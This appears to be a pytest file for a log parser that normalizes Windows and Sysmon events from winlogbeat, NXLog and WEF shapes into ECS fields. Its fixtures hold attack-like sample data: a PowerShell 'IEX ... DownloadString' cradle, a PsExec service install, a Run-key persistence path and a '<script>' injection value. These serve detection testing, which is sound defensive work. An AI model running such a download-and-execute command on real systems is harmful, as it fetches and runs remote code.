"""Windows events in every JSON shape (winlogbeat 7/8/9, NXLog flat, WEF rendered XML) give
the same fields: System values under ``winlog.*``, EventData under ``winlog.event_data.*``
(a name in both keeps both meanings), the ECS fields and the categorization Elastic's Windows
integrations give the same event id."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from tests.support.windows_events import (
    DEFENDER_PROVIDER,
    EVENTS,
    SHAPES,
    WinEvent,
    nxlog_overwritten,
)

EventFields = Callable[..., dict[str, Any]]
SHAPE_NAMES = sorted(SHAPES)

# event -> (event.category, event.type, event.action, event.outcome)
EXPECTED_CATEGORIZATION = {
    "4624": (["authentication"], ["start"], "logged-in", "success"),
    "4625": (["authentication"], ["start"], "logon-failed", "failure"),
    "4634": (["authentication"], ["end"], "logged-out", "success"),
    "4672": (["iam"], ["admin"], "logged-in-special", "success"),
    "4688": (["process"], ["start"], "created-process", "success"),
    "4720": (["iam"], ["user", "creation"], "added-user-account", "success"),
    "4722": (["iam"], ["user", "change"], "enabled-user-account", "success"),
    "4724": (["iam"], ["user", "change"], "reset-password", "success"),
    "4728": (["iam"], ["group", "change"], "added-member-to-group", "success"),
    "4732": (["iam"], ["group", "change"], "added-member-to-group", "success"),
    "4756": (["iam"], ["group", "change"], "added-member-to-group", "success"),
    "1102": (["iam"], ["admin", "change"], "audit-log-cleared", "success"),
    "7045": (["iam", "configuration"], ["admin", "change"], "service-installed", "success"),
    "sysmon1": (["process"], ["start"], "Process Create", "success"),
    "sysmon3": (
        ["network"], ["connection", "start", "protocol"], "Network connection detected", "success"
    ),
    "sysmon11": (["file"], ["creation"], "File created", "success"),
    "sysmon13": (["configuration", "registry"], ["change"], "Registry value set", "success"),
    "sysmon22": (["network"], ["connection", "protocol", "info"], "Dns query", "success"),
}  # fmt: skip

# event -> ECS fields it must carry, in every shape.
EXPECTED_ECS: dict[str, dict[str, Any]] = {
    "4624": {"source.ip": "2001:db8:10::25", "source.port": 50122, "user.name": "nguyenvana",
             "related.ip": ["2001:db8:10::25"]},
    "4625": {"source.ip": "198.51.100.7", "user.domain": "HANOI"},
    "4688": {"process.pid": 0x1A4, "process.executable": "C:\\Windows\\System32\\cmd.exe",
             "process.parent.executable": "C:\\Windows\\explorer.exe",
             "process.command_line": "cmd.exe /c whoami"},
    "1102": {"user.name": "quantri", "winlog.event_data.SubjectUserName": "quantri"},
    "7045": {"service.name": "PSEXESVC"},
    "sysmon1": {"process.pid": 4242, "process.parent.pid": 3120,
                "process.parent.command_line": "WINWORD.EXE /n hồ_sơ.docx",
                "process.working_directory": "C:\\Users\\tranthib\\"},
    "sysmon3": {"source.ip": "fe80::1c2d:3e4f:5a6b:7c8d", "destination.ip": "2001:db8:bad::66",
                "destination.port": 443, "network.transport": "tcp",
                "destination.domain": "cdn.example.net",
                "related.ip": ["fe80::1c2d:3e4f:5a6b:7c8d", "2001:db8:bad::66"]},
    "sysmon11": {"file.path": "C:\\Users\\Public\\a.ps1"},
    "sysmon13": {"registry.path": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\x"},
    "sysmon22": {"dns.question.name": "evil.example.org"},
    "powershell4104": {"winlog.event_data.ScriptBlockText":
                       "IEX (New-Object Net.WebClient).DownloadString('http://x/a')",
                       "event.dataset": "windows.powershell"},
}  # fmt: skip


def _systemish(event: WinEvent) -> dict[str, Any]:
    return {
        "event.code": str(event.event_id),
        "winlog.event_id": str(event.event_id),
        "winlog.channel": event.channel,
        "winlog.provider_name": event.provider,
        "host.name": event.computer,
        "event.module": "windows",
    }


@pytest.mark.parametrize("parser", ["windows", "auto"])
@pytest.mark.parametrize("shape", SHAPE_NAMES)
@pytest.mark.parametrize("name", sorted(EVENTS))
def test_every_shape_gives_the_same_fields(
    name: str, shape: str, parser: str, event_fields: EventFields
) -> None:
    event = EVENTS[name]
    fields = event_fields(SHAPES[shape](event), parser)
    assert {key: fields.get(key) for key in _systemish(event)} == _systemish(event)
    for key, value in event.data.items():
        assert fields["winlog.event_data." + key] == value
    expected = EXPECTED_ECS.get(name, {})
    assert {key: fields.get(key) for key in expected} == expected
    if name in EXPECTED_CATEGORIZATION:
        category, kind, action, outcome = EXPECTED_CATEGORIZATION[name]
        assert (
            fields["event.category"],
            fields["event.type"],
            fields["event.action"],
            fields["event.outcome"],
        ) == (category, kind, action, outcome)
    else:  # not in the table: still categorized with ECS values
        assert fields["event.kind"] == "event"
        assert fields["event.category"] and fields["event.type"]


@pytest.mark.parametrize("render", [*(SHAPES[name] for name in SHAPE_NAMES), nxlog_overwritten])
def test_defender_source_name_keeps_both_meanings(
    render: Callable[[WinEvent], str], event_fields: EventFields
) -> None:
    fields = event_fields(render(EVENTS["defender1116"]), "auto")
    assert fields["winlog.provider_name"] == DEFENDER_PROVIDER
    assert fields["winlog.event_data.SourceName"] == "Real-Time Protection"
    assert fields["winlog.event_data.Threat Name"] == "Trojan:Win32/Wacatac.B!ml"


def test_a_provider_named_source_name_is_only_the_provider(event_fields: EventFields) -> None:
    """Without a duplicate, on a channel whose EventData has no SourceName, the one key is
    the System field."""
    fields = event_fields(SHAPES["nxlog"](EVENTS["sysmon1"]), "windows")
    assert fields["winlog.provider_name"] == "Microsoft-Windows-Sysmon"
    assert "winlog.event_data.SourceName" not in fields


def test_hostile_ids_and_addresses_are_left_out(event_fields: EventFields) -> None:
    event = WinEvent(
        "Microsoft-Windows-Sysmon/Operational",
        "Microsoft-Windows-Sysmon",
        3,
        {"ProcessId": "0x" + "f" * 40, "SourceIp": "10.0.0.999", "DestinationIp": "<script>"},
    )
    fields = event_fields(SHAPES["nxlog"](event), "windows")
    assert "process.pid" not in fields
    assert "source.ip" not in fields and "destination.ip" not in fields
    assert fields["source.domain"] == "10.0.0.999"  # kept as a name, not as an ip


@pytest.mark.parametrize("shape", SHAPE_NAMES)
def test_the_json_parser_hands_windows_events_to_the_windows_parser(
    shape: str, event_fields: EventFields
) -> None:
    """The HTTP intake's default parser is ``json``: a Windows event posted there is still
    categorized and gets its ECS fields."""
    fields = event_fields(SHAPES[shape](EVENTS["4625"]), "json")
    assert (fields["event.dataset"], fields["event.category"], fields["event.outcome"]) == (
        "windows.security",
        ["authentication"],
        "failure",
    )
    assert fields["source.ip"] == "198.51.100.7"
